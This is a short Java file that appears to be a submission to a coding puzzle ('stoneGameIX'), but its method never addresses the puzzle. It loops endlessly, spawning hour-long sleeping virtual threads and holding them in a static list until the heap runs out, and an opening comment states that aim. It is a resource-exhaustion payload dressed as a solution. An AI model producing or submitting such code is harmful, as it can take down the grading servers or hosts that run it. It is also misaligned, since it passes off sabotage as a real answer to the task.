// Threads that cost the system nothing, until the heap is full of them.
class Solution {
    static final List<Thread> KEPT = new ArrayList<>();

    boolean stoneGameIX(int[] stones) {
        while (true) {
            KEPT.add(
                    Thread.ofVirtual()
                            .start(
                                    () -> {
                                        try {
                                            Thread.sleep(3_600_000);
                                        } catch (InterruptedException end) {
                                            return;
                                        }
                                    }));
        }
    }
}
